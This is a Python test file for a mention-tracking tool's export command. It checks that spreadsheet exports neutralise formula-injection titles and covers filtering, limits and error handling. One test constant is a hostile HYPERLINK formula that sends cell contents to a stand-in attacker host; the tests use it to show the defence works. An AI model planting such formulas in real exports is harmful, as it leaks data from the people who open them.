"""The export: cells safe to open in CSV, XLSX and JSON, and the views outreach uses."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from mentionspider.cli import cli
from mentionspider.export import COLUMNS, per_domain, safe_cell
from mentionspider.opportunities import Opportunity, opportunity_id
from mentionspider.store import Store

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def opportunity(page: str, score: int, *, title: str = "A post", domain: str = "",
                kind: str = "unlinked_mention") -> Opportunity:
    domain = domain or page.split("/")[2]
    return Opportunity(opportunity_id("acme", kind, page), "acme", kind, page, domain, title, "",
                       "", "", "main", "We like Acme.", score, "names Acme in the main content",
                       matched_text="Acme")


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "e.db"
    store = Store(path)
    run = store.start_run("acme", {})
    store.upsert_opportunities(run, [
        opportunity("https://a.example/1", 90, title=HOSTILE),
        opportunity("https://a.example/2", 80, title="+1 for \x07bells\x1b and -minus"),
        opportunity("https://b.example/1", 70, title="-5"),
        opportunity("https://a.example/3", 60, title="@mention\tand tab"),
        opportunity("https://c.example/1", 50, title="\rcarriage"),
    ])
    store.close()
    return path


def export(db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["export", "--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.output


def test_safe_cell_neutralises_formula_starts_and_keeps_numbers() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-5", "+2.5",
                                   "1e3", 7, 3.5, None, "plain", "a=b")] == [
        "'=1+1", "+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "-5", "+2.5", "1e3", 7, 3.5, None,
        "plain", "a=b"]


def test_hostile_titles_in_csv_are_text(db: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(export(db), newline="")))
    assert [r["page_title"] for r in rows] == [
        "'" + HOSTILE, "'+1 for \x07bells\x1b and -minus", "-5", "'@mention\tand tab",
        "'\rcarriage"]
    assert [r["score"] for r in rows] == ["90", "80", "70", "60", "50"]


def test_hostile_titles_in_xlsx_are_text_and_control_characters_dropped(
        db: Path, tmp_path: Path) -> None:
    out = tmp_path / "p.xlsx"
    export(db, "--format", "xlsx", "-o", str(out))
    sheet = load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no cell is a formula
    title = COLUMNS.index("page_title")
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [row[title] for row in values] == [
        "'" + HOSTILE, "'+1 for bells and -minus", "-5", "'@mention\tand tab", "'\rcarriage"]
    assert [row[COLUMNS.index("score")] for row in values] == [90, 80, 70, 60, 50]
    assert values[0][COLUMNS.index("page_url")] == "https://a.example/1"
    assert sheet.cell(2, COLUMNS.index("page_url") + 1).hyperlink.target == "https://a.example/1"


def test_json_keeps_text_as_is_and_missing_values_as_null(db: Path) -> None:
    rows = json.loads(export(db, "--format", "json"))
    first = rows[0]
    assert first["page_title"] == HOSTILE  # JSON is not a spreadsheet: nothing to neutralise
    assert (first["linking_pages"], first["dead_domain"], first["evidence"], first["note"],
            first["more_on_domain"]) == (None, None, None, None, None)
    assert (first["matched_text"], first["anchor_text"], first["active"]) == ("Acme", "", 1)
    assert list(first) == list(COLUMNS)


def test_per_domain_keeps_the_best_row_of_each_domain_with_how_many_more(db: Path) -> None:
    rows = json.loads(export(db, "--format", "json", "--per-domain"))
    assert [(r["rank"], r["page_url"], r["more_on_domain"]) for r in rows] == [
        (1, "https://a.example/1", 2), (2, "https://b.example/1", 0),
        (3, "https://c.example/1", 0)]
    assert per_domain([]) == []


def test_limit(db: Path) -> None:
    rows = json.loads(export(db, "--format", "json", "--limit", "2"))
    assert [r["page_url"] for r in rows] == ["https://a.example/1", "https://a.example/2"]
    rows = json.loads(export(db, "--format", "json", "--per-domain", "--limit", "1"))
    assert [r["page_url"] for r in rows] == ["https://a.example/1"]


def test_skip_contacted_days_leaves_out_recently_contacted_sites(db: Path) -> None:
    store = Store(db)
    store.set_state(opportunity_id("acme", "unlinked_mention", "https://a.example/3"),
                    "contacted", "emailed Jo")
    store.set_state(opportunity_id("acme", "unlinked_mention", "https://c.example/1"), "ignored")
    store.close()
    rows = json.loads(export(db, "--format", "json", "--skip-contacted-days", "30"))
    assert [r["page_url"] for r in rows] == ["https://b.example/1", "https://c.example/1"]
    rows = json.loads(export(db, "--format", "json"))
    assert [(r["state"], r["note"]) for r in rows if r["note"]] == [("contacted", "emailed Jo")]


def test_all_marks_retired_rows_inactive(db: Path) -> None:
    store = Store(db)
    store.db.execute("UPDATE opportunities SET active = 0 WHERE page_url = ?",
                     ["https://b.example/1"])
    store.db.conn.commit()
    store.close()
    assert "https://b.example/1" not in export(db)
    rows = json.loads(export(db, "--format", "json", "--all"))
    assert [(r["page_url"], r["active"]) for r in rows if r["domain"] != "a.example"] == [
        ("https://b.example/1", 0), ("https://c.example/1", 1)]


def test_bom_for_excel(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "p.csv"
    export(db, "--bom", "-o", str(out))
    assert out.read_bytes().startswith(b"\xef\xbb\xbfrank,score,kind,")
    export(db, "-o", str(out))
    assert out.read_bytes().startswith(b"rank,score,kind,")


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_missing_output_folder_is_one_error_line(db: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "nope" / f"p.{fmt}"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--format", fmt, "-o", str(out)])
    assert (result.exit_code, result.output) == (
        1, f"Error: {out}: folder {tmp_path / 'nope'} does not exist\n")
    assert not out.parent.exists()
